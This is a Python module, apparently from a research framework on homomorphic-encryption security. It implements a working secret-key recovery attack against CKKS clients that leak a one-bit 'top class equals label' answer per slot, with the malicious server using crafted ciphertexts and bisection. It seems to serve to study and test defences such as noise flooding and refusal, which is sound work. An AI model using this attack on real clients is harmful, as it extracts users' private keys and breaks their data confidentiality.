"""Key recovery through the label bit (the Li-Micciancio setting, reached one bit per slot).

The victim answers, per slot j < count, whether the top class of the decrypted "logits" equals
its reference label L. The attacker returns its own ciphertexts (malicious_server.py):

1. label probe (1 reply): class c's ciphertext holds +C in slot c, 0 elsewhere. Slot c's top
   class is c, so exactly slot L answers 1 (if the client had no label yet, the reference slot,
   where class 0 holds +C, fixes L = 0 first).
2. comparisons: class L holds Enc(-alpha*mid) + (0, K*w) with K = round(alpha*scale); class L'
   (any other) holds Enc(0); the rest hold Enc(-C). Slot j's top class is L iff
   alpha * (Re(sigma_j(w) sigma_j(s)) - mid_j) > 0: one comparison per slot per reply. A
   bisection on mid_j finds Re sigma_j(s) (w = 1) and -Im sigma_j(s) (w = X^(N/2)) to R / 2^steps.
   alpha is as large as the modulus allows (the decrypted polynomial alpha*scale*(s - s_mid)
   must stay below q/2), so noise added to decrypted values by the client (flooding) of std
   sigma perturbs a comparison only where |sigma_j(s) - mid_j| < ~4 sigma / alpha.
3. reconstruction: s = round(sigma^-1(z)) is done by the CKKS encoder itself (encode z at
   scale 1 -> NTT form of the integer polynomial). The slot the protocol reserves for the
   reference (count = slots - 1) is never compared; it is set to 0, which moves each coefficient
   by |sigma_slot(s)| * 2/N < 0.1 before rounding.
4. self-check without the key: p0 + p1*s must be the public key's small error.

The attacker talks to the victim through ``answer(bytes) -> bytes`` only.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Callable

import numpy as np

from ...core.errors import HesigError, InvalidValueError
from ...oracles.ckks.wire import unpack_bits
from .malicious_server import MaliciousServer

#: Bound on |Re sigma_j(s)|, |Im sigma_j(s)| for a uniform ternary key at N = 8192: each is a sum of
#: N terms of variance <= 2/3, std ~ 52; 1024 is ~20 standard deviations.
DEFAULT_RANGE = 1024.0
#: A value far above any honest or crafted comparison value: the probe's and the losers' magnitude.
FAR = float(2 ** 20)


@dataclass
class KeyRecoveryResult:
    """s_ntt: uint64 [L0, N] recovered key in NTT form at the first level (None if the victim
    refused before the attack finished); counters as reported by :meth:`summary`."""

    s_ntt: np.ndarray | None
    replies: int = 0
    reply_bytes: int = 0
    message_bytes: int = 0
    ciphertexts_built: int = 0
    seconds: float = 0.0
    label: int | None = None
    steps: int = 0
    public_key_residual: float | None = None
    refused: str | None = None
    log: list = field(default_factory=list)

    @property
    def verified(self) -> bool:
        """The attacker's own test: the public key's error under s is small (< 2^20 in slot norm)."""
        return self.public_key_residual is not None and self.public_key_residual < 2.0 ** 20

    def summary(self) -> dict:
        return {"replies": self.replies, "reply_bytes": self.reply_bytes, "message_bytes": self.message_bytes,
                "server_built_ciphertexts": self.ciphertexts_built, "seconds": round(self.seconds, 3),
                "reference_label": self.label, "bisection_steps": self.steps,
                "public_key_residual": self.public_key_residual, "verified_by_public_key": self.verified,
                "refused": self.refused}


class KeyRecoveryAttack:
    """server: a MaliciousServer that has learned the result format (``learn_format``).
    session: the victim's session id (from its input message); steps: bisection steps per
    component; value_range: the initial interval half-width R; headroom_bits: how far below
    q/2 the crafted decryptions stay."""

    def __init__(self, server: MaliciousServer, session: int, *, steps: int = 12, value_range: float = DEFAULT_RANGE,
                 headroom_bits: int = 4):
        if server.result_parms is None:
            raise InvalidValueError("the malicious server must first learn the result format from an honest result")
        if not 1 <= int(steps) <= 60:
            raise InvalidValueError(f"bisection steps must be 1..60, got {steps}")
        if not value_range > 0:
            raise InvalidValueError(f"value range must be > 0, got {value_range}")
        self.server, self.session, self.steps, self.range = server, int(session), int(steps), float(value_range)
        moduli = server.moduli(server.result_parms)
        self._q = moduli[:, None]
        self._log2_q = float(sum(np.log2(float(m)) for m in moduli))
        self._headroom = int(headroom_bits)
        self.count = server.slots - 1
        n = server.poly_modulus_degree
        ones = np.ones((len(moduli), n), dtype=np.uint64)
        # sigma_j(X^(N/2)) = i in every slot: its NTT form, from the encoder (exact at scale 1).
        self._w_ntt = {"re": ones, "im": server.plain_ntt(np.full(server.slots, 1j), server.result_parms, 1.0)}

    # -- messages ----------------------------------------------------------------------------

    def _alpha(self, half_width: float) -> float:
        """Largest slot gain alpha keeping alpha*scale*||sigma^-1(x - mid)||_inf (~ 0.06 R on N=8192)
        and alpha*scale*(1 + ...) below q / 2^headroom."""
        n = self.server.poly_modulus_degree
        spread = 1.0 + 6.0 * half_width * np.sqrt(2.0 / n)
        return float(2.0 ** (self._log2_q - 1 - self._headroom) / self.server.result_scale / spread)

    def probe_message(self) -> bytes:
        srv, k = self.server, self.server.num_outputs
        cts = []
        for c in range(k):
            v = np.zeros(srv.slots)
            v[c] = FAR
            v[self.count] = FAR if c == 0 else 0.0
            cts.append(srv.encrypt(v, srv.result_parms, srv.result_scale))
        return srv.result_message(cts, self.session, self.count)

    def compare_message(self, label: int, component: str, mid: np.ndarray, alpha: float) -> bytes:
        srv, k = self.server, self.server.num_outputs
        big_k = int(round(alpha * srv.result_scale))
        k_mod_q = np.uint64(big_k) % self._q  # K < 2^56, primes < 2^32: products stay below 2^64
        w = (self._w_ntt[component] * k_mod_q) % self._q  # K * w, coefficient-wise in NTT form
        values = -alpha * np.asarray(mid, dtype=np.float64)
        values[self.count] = FAR
        other = (label + 1) % k
        cts = []
        for c in range(k):
            if c == label:
                cts.append(srv.shifted(values, w))
            elif c == other:
                cts.append(srv.encrypt(np.zeros(srv.slots), srv.result_parms, srv.result_scale))
            else:
                cts.append(srv.encrypt(np.full(srv.slots, -FAR), srv.result_parms, srv.result_scale))
        return srv.result_message(cts, self.session, self.count)

    # -- the attack --------------------------------------------------------------------------

    def run(self, answer: Callable[[bytes], bytes], log: Callable[[str], None] = lambda m: None) -> KeyRecoveryResult:
        """answer: the victim's reply function (bytes in, packed bits out). A victim that refuses
        (a HesigError) ends the attack; the result then has s_ntt None and ``refused`` set."""
        t0 = time.perf_counter()
        built0 = self.server.ciphertexts_built
        res = KeyRecoveryResult(None)

        def ask(message: bytes) -> np.ndarray:
            res.message_bytes += len(message)
            reply = answer(message)
            res.replies += 1
            res.reply_bytes += len(reply)
            return unpack_bits(reply, self.count)

        try:
            bits = ask(self.probe_message())
            ones = np.flatnonzero(bits[:self.server.num_outputs])
            if len(ones) != 1:
                raise InvalidValueError(f"label probe answered {len(ones)} ones; the client is not a plain argmax")
            res.label = int(ones[0])
            est = {}
            for component in ("re", "im"):
                lo = np.full(self.server.slots, -self.range)
                hi = np.full(self.server.slots, self.range)
                lo[self.count] = hi[self.count] = 0.0
                for step in range(self.steps):
                    mid = (lo + hi) / 2
                    alpha = self._alpha(float((hi - lo).max()) / 2)
                    above = ask(self.compare_message(res.label, component, mid, alpha))
                    lo[:self.count] = np.where(above, mid[:self.count], lo[:self.count])
                    hi[:self.count] = np.where(above, hi[:self.count], mid[:self.count])
                    res.steps = max(res.steps, step + 1)
                est[component] = (lo + hi) / 2
                log(f"[key-recovery] {component}: {self.steps} bisection steps, {res.replies} replies so far")
        except HesigError as exc:
            res.refused = str(exc)
            res.ciphertexts_built = self.server.ciphertexts_built - built0
            res.seconds = time.perf_counter() - t0
            return res
        z = est["re"] - 1j * est["im"]  # Re(i sigma) = -Im sigma
        res.s_ntt = self.server.plain_ntt(z, self.server.first_parms, 1.0)
        res.public_key_residual = self.server.public_key_residual(res.s_ntt)
        res.ciphertexts_built = self.server.ciphertexts_built - built0
        res.seconds = time.perf_counter() - t0
        return res
